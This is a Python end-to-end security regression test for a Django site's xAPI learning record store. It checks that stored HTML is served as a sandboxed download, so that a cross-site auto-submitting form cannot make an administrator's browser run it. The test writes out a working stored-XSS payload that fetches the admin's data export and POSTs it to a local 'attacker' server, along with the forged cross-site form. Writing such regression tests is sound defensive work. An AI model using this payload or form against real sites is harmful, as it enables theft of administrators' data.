"""The LRS cannot be turned against the site (issue 14, point 5), in Chromium.

The reported attack: a client with only the `state` scope stores an HTML
document; a page on another site posts a form to the LRS's alternate request
syntax with those credentials; an administrator who visits that page gets the
HTML from the site's origin, and its script reads the admin's data export.
Now the answer is a sandboxed download: nothing runs, nothing leaves.
"""

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlencode

from django.test import Client

import pytest

from learning.xapi.lrs.models import Scope
from tests.e2e.test_certificate_journey import log_in
from tests.factories import UserFactory
from tests.xapi.conftest import basic, make_client

pytestmark = pytest.mark.e2e

AGENT = '{"objectType": "Agent", "mbox": "mailto:ada@example.org"}'
ACTIVITY = "http://example.org/activities/unit-1"


class Attacker(BaseHTTPRequestHandler):
    """Another site: serves the auto-submitting form, records what reaches it."""

    page = b""
    received: list[str] = []

    def do_GET(self):
        if self.path == "/":
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(self.page)
            return
        self.received.append(self.path)
        self.send_response(204)
        self.end_headers()

    def do_POST(self):
        self.received.append(self.path)
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.send_response(204)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture
def attacker():
    server = ThreadingHTTPServer(("127.0.0.1", 0), Attacker)
    Attacker.received = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server, f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


def store_payload(client, attacker_url: str) -> None:
    """The state-only client stores its HTML, as any LRS client could."""
    payload = f"""<!DOCTYPE html><html><head><title>payload</title></head><body>
<script>
new Image().src = "{attacker_url}/ran";
fetch("/accounts/profile/data.json", {{credentials: "include"}})
  .then(r => r.text())
  .then(t => fetch("{attacker_url}/stolen", {{method: "POST", body: t}}));
</script></body></html>"""
    response = Client().put(
        "/xapi/activities/state?"
        + urlencode({"activityId": ACTIVITY, "stateId": "payload", "agent": AGENT}),
        data=payload.encode(),
        content_type="text/html",
        HTTP_AUTHORIZATION=basic(client.key),
        HTTP_X_EXPERIENCE_API_VERSION="1.0.3",
    )
    assert response.status_code == 204


def attack_page(live_server, client) -> bytes:
    fields = {
        "Authorization": basic(client.key),
        "X-Experience-API-Version": "1.0.3",
        "activityId": ACTIVITY,
        "agent": AGENT,
        "stateId": "payload",
    }
    inputs = "".join(
        f"<input type=hidden name='{name}' value='{value}'>"
        for name, value in fields.items()
    )
    action = f"{live_server.url}/xapi/activities/state?method=GET"
    return (
        f"<!DOCTYPE html><html><body><form method=post action='{action}'>{inputs}"
        "</form><script>document.forms[0].submit()</script></body></html>"
    ).encode()


def test_stored_html_never_runs_on_the_site(page, live_server, e2e_db, attacker):
    """An admin visiting the attacker's page downloads the document: its script
    never runs, the data export never leaves."""
    server, attacker_url = attacker
    admin = UserFactory(username="root", is_staff=True, is_superuser=True)
    client = make_client("state-only", scopes=[Scope.STATE])
    store_payload(client, attacker_url)
    Attacker.page = attack_page(live_server, client)
    log_in(page, live_server, admin)
    export = page.request.get(f"{live_server.url}/accounts/profile/data.json")
    assert json.loads(export.text())["profile"]["username"] == "root"

    downloads = []
    page.on("download", lambda download: downloads.append(download))
    page.goto(attacker_url + "/", wait_until="commit")
    page.wait_for_timeout(3000)  # time for a payload that ran to call home
    assert Attacker.received == []
    assert len(downloads) == 1  # the document came as a file, not a page
    assert b"<script>" in Path(downloads[0].path()).read_bytes()


def test_pages_and_admin_work_under_their_policies(page, live_server, e2e_db):
    """The strict policy of the site's pages and the admin's policy block nothing
    the pages need (Chromium reports every blocked script, style or image)."""
    from cms.site_structure import ensure_site_structure
    from tests.factories import CoursePageFactory, LessonPageFactory

    course = CoursePageFactory(parent=ensure_site_structure().catalogue("fr"))
    lesson = LessonPageFactory(parent=course, title="Leçon 1", slug="l1")
    admin = UserFactory(username="root", is_staff=True, is_superuser=True)
    refused = []
    page.on(
        "console",
        lambda message: (
            refused.append(message.text)
            if "Content Security Policy" in message.text
            else None
        ),
    )
    log_in(page, live_server, admin)
    for path in (
        "/catalogue/",
        course.url,
        lesson.url,
        "/learning/",
        "/admin/",
        f"/admin/pages/{course.pk}/edit/",
        "/admin/pages/",
        "/api/v1/docs",
    ):
        response = page.goto(f"{live_server.url}{path}")
        assert response.status == 200, path
        page.wait_for_load_state("networkidle")
    assert refused == [], "\n".join(refused)
